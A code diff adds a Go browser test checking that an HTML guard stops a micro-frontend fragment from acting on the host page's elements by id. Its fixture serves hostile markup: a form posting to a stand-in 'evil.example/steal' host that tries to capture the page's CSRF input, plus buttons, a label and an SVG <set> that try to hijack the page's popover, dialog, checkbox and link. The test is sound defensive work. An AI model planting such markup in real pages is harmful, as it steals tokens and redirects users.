@@ -6,6 +6,8 @@ import (
 	"net/http/httptest"
 	"path/filepath"
 	"testing"
+
+	"github.com/chromedp/chromedp"
 )
 
 // Browser tests of what the HTML guard (package htmlguard) keeps a
@@ -67,6 +69,93 @@ func TestBrowserFragmentsCannotAttachShadowRootsToThePage(t *testing.T) {
 	})()`)
 	if got != "" {
 		t.Error(got)
+	}
+	if p := b.seen(); len(p) > 0 {
+		t.Errorf("problems under the strict CSP:\n%v", p)
+	}
+}
+
+// A fragment's element cannot act on the page's elements by id: a
+// fragment's buttons cannot open the page's popover or modal dialog, its
+// label cannot tick the page's checkbox, its SVG <set> cannot change the
+// page's SVG link, and its <form id="checkout">,
+// placed before the page's own form of that id, does not capture the
+// page's <input form="checkout">: the page's ids are reserved (issue 25,
+// item 5). A reference from one fragment to another fragment's id still
+// works.
+func TestBrowserFragmentsCannotActOnPageElementsByID(t *testing.T) {
+	frag := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "text/html")
+		switch r.URL.Path {
+		case "/hostile":
+			fmt.Fprint(w, `<form id="checkout" action="https://evil.example/steal" method="post"></form>`+
+				`<button id="h-pop" popovertarget="page-popover">open</button>`+
+				`<button id="h-cmd" commandfor="page-dialog" command="show-modal">dialog</button>`+
+				`<label id="h-label" for="terms">tick</label>`+
+				`<button id="h-other" popovertarget="other-popover">the other fragment's popover</button>`+
+				`<svg width="1" height="1"><set href="#logo-link" attributeName="href" to="https://evil.example/"/></svg>`)
+		case "/other":
+			fmt.Fprint(w, `<div id="other-popover" popover>the other fragment's popover</div>`)
+		}
+	}))
+	defer frag.Close()
+	dir := t.TempDir()
+	writeFile(t, filepath.Join(dir, "routes.json"), `{"/": "p.html"}`)
+	writeFile(t, filepath.Join(dir, "p.html"), `<!doctype html><html><head><meta charset="utf-8"><title>t</title><link rel="icon" href="data:,"></head><body><main>
+<div id="hslot"><micro-frontend id="hostile" timeout="10s"/></div>
+<div id="oslot"><micro-frontend id="other" timeout="10s"/></div>
+<form id="checkout" action="/submit" method="post"><button>Pay</button></form>
+<input form="checkout" name="csrf" value="secret" id="csrf">
+<input type="checkbox" id="terms">
+<div id="page-popover" popover>the page's popover</div>
+<dialog id="page-dialog">the page's dialog</dialog>
+<svg width="100" height="20"><a id="logo-link" href="/home"><text x="0" y="15">home</text></a></svg>
+</main></body></html>`)
+	regFile := filepath.Join(t.TempDir(), "registry.json")
+	writeFile(t, regFile, fmt.Sprintf(`{"hostile": %q, "other": %q}`, frag.URL+"/hostile", frag.URL+"/other"))
+	inst := start(t, map[string]string{"COMPOSER_TEMPLATES": dir, "COMPOSER_REGISTRY": regFile, "COMPOSER_CSP": demoCSP, "COMPOSER_CACHE_BYTES": "0"})
+	b := newBrowser(t, 800, 600)
+	b.open(inst.base + "/")
+	b.do(b.until(`document.readyState === "complete"`))
+	if !eval[bool](b, `!!document.querySelector("#hslot #h-other") && !!document.querySelector("#oslot #other-popover")`) {
+		t.Fatal("the fragments are not in the page")
+	}
+	// The buttons and the label are clicked as a visitor would, one at a
+	// time, each popover closed before the next click.
+	click := func(sel string) {
+		t.Helper()
+		b.do(chromedp.Click(chromedp.CSS(sel)))
+	}
+	closePopovers := `document.querySelectorAll(":popover-open").forEach(p => p.hidePopover())`
+	var got []string
+	click("#h-pop")
+	if eval[bool](b, `document.getElementById("page-popover").matches(":popover-open")`) {
+		got = append(got, "the fragment's popovertarget opened the page's popover")
+	}
+	eval[any](b, closePopovers)
+	click("#h-label")
+	if eval[bool](b, `document.getElementById("terms").checked`) {
+		got = append(got, "the fragment's label ticked the page's checkbox")
+	}
+	if form := eval[string](b, `(() => { const f = document.getElementById("csrf").form; return f ? f.action : "none" })()`); form != inst.base+"/submit" {
+		got = append(got, "the page's <input form=checkout> belongs to the form of action "+form)
+	}
+	// An SVG animation element reaches its target by href="#id": <set>
+	// would change the page's SVG link.
+	if href := eval[string](b, `(() => { const a = document.getElementById("logo-link"); return a ? a.href.animVal : "gone" })()`); href != "/home" {
+		got = append(got, "the fragment's <set> made the page's SVG link's href "+href)
+	}
+	click("#h-other")
+	if !eval[bool](b, `document.getElementById("other-popover").matches(":popover-open")`) {
+		got = append(got, "a fragment's popovertarget no longer opens another fragment's popover")
+	}
+	eval[any](b, closePopovers)
+	click("#h-cmd") // last: a modal dialog would take the clicks after it
+	if eval[bool](b, `document.getElementById("page-dialog").open`) {
+		got = append(got, "the fragment's commandfor opened the page's modal dialog")
+	}
+	for _, g := range got {
+		t.Error(g)
 	}
 	if p := b.seen(); len(p) > 0 {
 		t.Errorf("problems under the strict CSP:\n%v", p)
